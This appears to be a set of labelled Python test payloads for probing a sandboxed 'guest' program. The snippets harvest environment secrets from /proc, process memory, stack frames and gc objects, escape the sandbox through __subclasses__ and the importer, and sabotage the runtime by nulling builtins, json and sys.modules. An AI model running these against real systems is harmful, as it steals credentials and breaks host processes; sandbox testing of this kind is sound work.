# == read_the_variable
import os
os.environ.get(secret_name), os.getenv(secret_name)
# == read_all_variables
import os
dict(os.environ)
# == read_those_of_this_process
open("/proc/self/environ").read()
# == read_those_of_the_host
open(f"/proc/{host}/environ").read()
# == read_those_of_every_process
import os
found = []
for number in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{number}/environ").read())
    except OSError:
        pass
found
# == read_those_of_the_c_library
import ctypes
c = ctypes.CDLL(None)
c.getenv.restype = ctypes.c_char_p
c.getenv(secret_name.encode())
# == read_the_initial_stack
import ctypes, re
found = []
for line in open("/proc/self/maps"):
    if "[stack]" in line:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        found = re.findall(rb"[\x20-\x7e]{6,}", ctypes.string_at(start, end - start))
found[-50:]
# == read_those_of_a_child
import subprocess
subprocess.run(["env"], capture_output=True).stdout
# == command_lines_of_every_process
import os
found = []
for number in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{number}/cmdline").read())
    except OSError:
        pass
found
# == what_the_guest_program_knows
import sys, gc
[repr(vars(module))[:2000] for name, module in list(sys.modules.items()) if name.startswith("guest")]
# == every_string_that_there_is
import gc
[str(thing)[:300] for thing in gc.get_objects() if isinstance(thing, dict)][:3000]
# == frames_above
import sys
frame, found = sys._getframe(), []
while frame:
    found.append(repr(frame.f_locals)[:1000])
    frame = frame.f_back
found
# == users_and_hosts
import getpass, platform, os
[platform.uname(), os.getcwd(), os.getlogin(), getpass.getuser()]
# == attributes_of_everything
[base.__name__ for base in ().__class__.__base__.__subclasses__()]
# == the_way_to_the_loader
[base for base in ().__class__.__base__.__subclasses__() if "Importer" in base.__name__][0].load_module("posix").environ
# == a_format_that_looks_inside
"{0.__class__.__init__.__globals__}".format(ask)
# == globals_of_a_tool
ask.__globals__, ask.__closure__ and [cell.cell_contents for cell in ask.__closure__]
# == builtins_replaced
import builtins
builtins.open = builtins.print = builtins.len = None
builtins.__import__ = lambda *_: None
# == json_replaced
import json
json.dumps = json.loads = lambda *_, **__: "{}"
# == modules_removed
import sys
sys.modules.clear()
# == the_encoder_replaced
import sys
for name in ("guest_values", "guest_session", "guest_tools", "guest_output"):
    module = sys.modules.get(name)
    for key in list(vars(module or object)):
        try:
            setattr(module, key, None)
        except (AttributeError, TypeError):
            pass
